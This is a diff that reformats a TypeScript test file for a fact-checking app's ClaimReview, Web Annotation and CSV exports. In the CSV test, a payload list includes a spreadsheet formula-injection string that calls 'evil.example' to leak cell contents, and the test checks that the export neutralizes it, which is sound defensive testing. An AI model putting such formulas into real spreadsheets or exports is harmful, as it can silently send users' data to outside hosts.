@@ -25,8 +25,18 @@ beforeAll(async () => {
   await loadCorpus({ db: t.db, corpusPath: resolve(import.meta.dirname, "../seeds/corpus.json") });
   await t.db.user.create({ data: analyst });
   const id = async (slug: string) => (await t.db.claim.findUniqueOrThrow({ where: { slug } })).id;
-  await setVerdict(t.db, analyst, { claimId: await id("dprk-troops-number-about-10000"), rating: "CONFLICTING_EVIDENCE", confidence: "MEDIUM", rationale: "Some 10,000 against several thousand." });
-  await setVerdict(t.db, analyst, { claimId: await id("treaty-cites-un-charter-article-51"), rating: "TRUE", confidence: "HIGH", rationale: "Both texts quote Article 51." });
+  await setVerdict(t.db, analyst, {
+    claimId: await id("dprk-troops-number-about-10000"),
+    rating: "CONFLICTING_EVIDENCE",
+    confidence: "MEDIUM",
+    rationale: "Some 10,000 against several thousand.",
+  });
+  await setVerdict(t.db, analyst, {
+    claimId: await id("treaty-cites-un-charter-article-51"),
+    rating: "TRUE",
+    confidence: "HIGH",
+    rationale: "Both texts quote Article 51.",
+  });
   process.env.DATABASE_URL = t.url;
   api = {
     reviews: await import("../app/api/export/claim-reviews/route"),
@@ -67,7 +77,11 @@ describe("ClaimReview", () => {
     }
     const troops = body["@graph"].find((r: { url: string }) => r.url.endsWith("/dprk-troops-number-about-10000"));
     expect(troops.reviewRating).toEqual({ "@type": "Rating", alternateName: "Conflicting evidence" });
-    expect(troops.itemReviewed.appearance.map((a: { publisher: { name: string } }) => a.publisher.name)).toEqual(["NPR", "HP McLovincraft's blog", "Unidentified news website"]);
+    expect(troops.itemReviewed.appearance.map((a: { publisher: { name: string } }) => a.publisher.name)).toEqual([
+      "NPR",
+      "HP McLovincraft's blog",
+      "Unidentified news website",
+    ]);
     expect(troops.itemReviewed.firstAppearance).toMatchObject({ datePublished: "2024-11", publisher: { name: "NPR" } });
     const article51 = body["@graph"].find((r: { url: string }) => r.url.endsWith("/treaty-cites-un-charter-article-51"));
     expect(article51.reviewRating).toEqual({ "@type": "Rating", alternateName: "True", ratingValue: 5, bestRating: 5, worstRating: 1 });
@@ -76,7 +90,14 @@ describe("ClaimReview", () => {
 
 describe("Web Annotation", () => {
   type Selector = { type: string; exact?: string; prefix?: string; suffix?: string; start?: number; end?: number };
-  type Annotation = { "@context": string; id: string; type: string; motivation: string; body: { type: string; purpose: string; value?: string; source?: string }[]; target: { source: string; selector: Selector[] } };
+  type Annotation = {
+    "@context": string;
+    id: string;
+    type: string;
+    motivation: string;
+    body: { type: string; purpose: string; value?: string; source?: string }[];
+    target: { source: string; selector: Selector[] };
+  };
 
   it("gives every live stance as an annotation whose selectors find its exact words in the source", async () => {
     const response = await api.annotations.GET(get("/api/export/annotations"));
@@ -142,12 +163,30 @@ describe("stances CSV", () => {
   });
 
   it("neutralizes cells a spreadsheet would run as formulas, and gives them verbatim on request", async () => {
-    const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1 555 0100 was the number given", "-3,000 troops, said the ministry", "@SUM(A1:A9) of the reports"];
+    const payloads = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+      "+1 555 0100 was the number given",
+      "-3,000 troops, said the ministry",
+      "@SUM(A1:A9) of the reports",
+    ];
     const text = `A hostile page.\n${payloads.join("\n")}\nThe end.`;
-    const source = await createSource(t.db, analyst, { title: "Formula bait", outlet: { new: { name: "Bait Wire", kind: "BLOG" } }, kind: "NEWS_REPORT", language: "en", text });
+    const source = await createSource(t.db, analyst, {
+      title: "Formula bait",
+      outlet: { new: { name: "Bait Wire", kind: "BLOG" } },
+      kind: "NEWS_REPORT",
+      language: "en",
+      text,
+    });
     const topic = await t.db.topic.findFirstOrThrow();
     for (const quote of payloads) {
-      await createStance(t.db, analyst, { sourceId: source.id, quote, claim: { new: { text: `Bait: ${quote}`, topic: topic.slug } }, position: "SUPPORTS", mode: "AS_FACT", speaker: null });
+      await createStance(t.db, analyst, {
+        sourceId: source.id,
+        quote,
+        claim: { new: { text: `Bait: ${quote}`, topic: topic.slug } },
+        position: "SUPPORTS",
+        mode: "AS_FACT",
+        speaker: null,
+      });
     }
     const rowsOf = async (path: string) => csvRows(await (await api.csv.GET(get(path))).text()).filter((r) => r[5] === source.id);
 
